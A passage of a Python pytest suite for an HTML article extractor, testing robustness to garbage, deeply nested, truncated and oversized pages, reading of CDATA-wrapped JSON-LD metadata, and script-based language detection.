        ("<html><head><title>x</title></head><body><nav></nav></body></html>", "no article"),
        ("<<<>>> ;;; ---", "no article"),
    ],
)
def test_empty_or_garbage_is_refused(data: bytes | str, reason: str) -> None:
    with pytest.raises(ExtractError, match=reason) as error:
        extract_html(data)
    assert "\n" not in str(error.value)


def test_deep_nesting_does_not_crash() -> None:
    depth = 10_000
    html = (
        "<html><head><title>Deep page title here</title></head><body>"
        + "<div>" * depth
        + "<p>Deep content that is still the text of the article, nested very deeply.</p>"
        + "</div>" * depth
        + "</body></html>"
    )
    doc = extract_html(html)
    assert doc.title == "Deep page title here"
    assert "Deep content that is still the text of the article" in doc.body


def test_deep_inline_nesting_does_not_crash() -> None:
    html = "<p>start " + "<b><i><span>" * 5000 + "deep words" + "</span></i></b>" * 5000
    try:
        doc = extract_html(html)
    except ExtractError:
        return  # a clear refusal is acceptable; a crash is not
    assert "start" in doc.body


@pytest.mark.parametrize("cut", [200, 600, 1000])
def test_truncated_html_does_not_crash(cut: int) -> None:
    page = (
        "<html><head><title>Truncated page</title></head><body><article><p>"
        + "Words of a page whose download stopped in the middle of a tag. " * 20
        + '</p><p class="x"><a href="https://a.example/">link</a></p></article></body></html>'
    )
    doc = extract_html(page[:cut] + '<a href="ja')
    assert doc.body.strip()


def test_oversized_page_is_refused_clearly() -> None:
    huge = "<html><body><p>" + "x" * (MAX_HTML_CHARS + 1) + "</p></body></html>"
    with pytest.raises(ExtractError, match=r"over the .* limit"):
        extract_html(huge)


def test_fifty_megabyte_bytes_page_is_refused_without_crashing() -> None:
    huge = b"<html><body>" + b"<p>word </p>" * (50 * 1024 * 1024 // 12) + b"</body></html>"
    with pytest.raises(ExtractError, match="limit"):
        extract_html(huge)


@pytest.mark.parametrize(
    ("before", "after"), [("<![CDATA[", "]]>"), ("<!--", "-->"), ("\n  <![CDATA[\n", "\n]]>\n")]
)
def test_json_ld_wrapped_for_xhtml_is_read(before: str, after: str) -> None:
    """Wikipedia and others wrap their JSON-LD in CDATA: its author and date still count."""
    html = page_with(
        f'<script type="application/ld+json">{before}{{"@type": "Article", "author": '
        '{"@type": "Organization", "name": "Contributors to Example projects"}, '
        f'"datePublished": "2024-12-06T22:00:40Z"}}{after}</script>'
    )
    doc = extract_html(html)
    assert (doc.author, doc.date) == (
        "Contributors to Example projects",
        "2024-12-06 22:00:40+00:00",
    )


@pytest.mark.parametrize(
    ("paragraph", "language"),
    [
        (
            "中国人民银行发布通知，虚拟货币相关业务活动属于非法金融活动，任何机构不得提供服务。",
            "zh",
        ),
        (
            "日本銀行は、暗号資産に関する新しい規制について本日発表しました。投資家は注意が必要です。",
            "ja",
        ),
        (
            "한국은행은 오늘 가상자산에 관한 새로운 규제를 발표했습니다. 투자자는 주의해야 합니다.",
            "ko",
        ),
        (
            "Le régulateur a publié une note sur les cryptoactifs et les risques encourus.",
            None,
        ),
        (
            "The regulator published a note on crypto assets and the risks for savers and banks.",
            None,
        ),
    ],
)
def test_a_page_declaring_no_language_gets_one_only_from_its_script(
    paragraph: str, language: str | None
) -> None:
    """Chinese, Japanese and Korean are told by their script; Latin letters write many
    languages, so such a page is left without one rather than called English."""
    body = f"<p>{paragraph}</p>" * 3
    html = f"<html><head><title>T</title></head><body><article>{body}</article></body></html>"
    assert extract_html(html).language == language
    declared = html.replace("<html>", '<html lang="fr-CA">')
    assert extract_html(declared).language == "fr-CA"  # what the page says comes first
